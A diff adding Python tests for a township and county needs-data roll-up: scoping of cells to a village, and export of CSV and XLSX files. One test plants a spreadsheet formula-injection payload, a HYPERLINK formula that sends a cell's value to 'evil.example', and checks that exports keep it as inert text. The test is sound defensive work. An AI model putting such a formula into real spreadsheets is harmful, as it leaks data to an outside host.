@@ -16,8 +16,8 @@ from hypothesis import given, settings, strategies as st
 from server.node import Node
 from server.rollup import build, child_of, median_of, to_csv, to_xlsx
 from server.snapshots import (
-    DAY_MS, Cell, Closure, Part, Snapshotter, _Tally, close_month, content_hash, figures, merge_parts,
-    parse_have, township_parts,
+    DAY_MS, Cell, CellDiff, Closure, Part, Snapshotter, Source, _Tally, close_month, content_hash, figures,
+    merge_parts, parse_have, township_parts, within,
 )
 from sync.errors import BadRequest
 from sync.hlc import HLC
@@ -285,6 +285,27 @@ def test_the_union_of_children_adds_up_and_keeps_closures() -> None:
     assert merged.hash == merge_parts([b, a])["needs/2026-10"].hash
 
 
+def test_a_scope_keeps_its_own_cells_closures_and_sources() -> None:
+    diff = [CellDiff([V1, "养老服务", "待处理"], [3], [4]), CellDiff([V2, "其他", "待处理"], None, [5])]
+    cl = Closure(unit=TOWNSHIP, month="2026-10", closed_at=1, closed_by="x", frozen_hash="0" * 16, revision=1,
+                 diff=diff)
+    parts = {"needs/2026-10": Part(name="needs/2026-10", hash="a", closures=[cl], cells=[
+                 Cell([V1, "养老服务", "待处理"], [4]), Cell([V2, "其他", "待处理"], [5])]),
+             "devices": Part(name="devices", hash="b", cells=[Cell([V1], [1, 1, 1])])}
+    sources = [Source(unit=TOWNSHIP, tier="township"), Source(unit="510903002000", tier="township")]
+    got, found = within(parts, sources, (V2, V2))  # a township account scoped to village 2
+    assert list(got) == ["needs/2026-10"]  # no device of village 2
+    assert by_key(got["needs/2026-10"].cells) == {(V2, "其他", "待处理"): [5]}
+    # the township's closure still shows, with village 2's change only
+    assert [d.k for c in got["needs/2026-10"].closures for d in c.diff] == [[V2, "其他", "待处理"]]
+    assert got["needs/2026-10"].hash == content_hash(got["needs/2026-10"].cells, got["needs/2026-10"].closures)
+    assert found == []
+    got, found = within(parts, sources, ("510903000000", "510903999999"))  # the whole county
+    assert got["needs/2026-10"].cells == parts["needs/2026-10"].cells and found == sources
+    got, found = within(parts, sources, ("510904000000", "510904999999"))  # another county
+    assert got == {} and found == []
+
+
 @given(st.dictionaries(st.integers(0, 400), st.integers(1, 50), min_size=1))
 def test_the_median_of_a_histogram_is_the_median_of_its_values(hist: dict[int, int]) -> None:
     import statistics
@@ -318,3 +339,19 @@ def test_exports_hold_the_roll_up(node: Node) -> None:
     wb = openpyxl.load_workbook(io.BytesIO(to_xlsx(ro)))
     办结 = list(wb["办结"].iter_rows(values_only=True))
     assert 办结[1] == (V1, "育才社区", 1, 1, "100.0%", "0")
+
+
+def test_exports_keep_text_that_looks_like_a_formula_as_text() -> None:
+    # a township may author a need category with any code; the county's files must not run it
+    evil = '=HYPERLINK("http://evil.example/?"&A2,"点击查看")'
+    parts = {"needs/2026-10": Part(name="needs/2026-10", hash="", cells=[Cell([V1, evil, "待处理"], [3]),
+                                                                         Cell([V2, "@SUM(1)", "待处理"], [4])])}
+    ro = build(TOWNSHIP, parts)
+    rows = list(csv.reader(io.StringIO(to_csv(ro).lstrip("\ufeff"))))
+    assert [V1, V1, "'" + evil, "3"] in [r[:4] for r in rows]
+    assert [V2, V2, "'@SUM(1)", "4"] in [r[:4] for r in rows]
+    wb = openpyxl.load_workbook(io.BytesIO(to_xlsx(ro)))
+    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    assert {(c.value, c.data_type) for c in cells if c.column_letter == "C" and c.row > 1
+            and c.parent.title == "需求"} == {(evil, "s"), ("@SUM(1)", "s")}
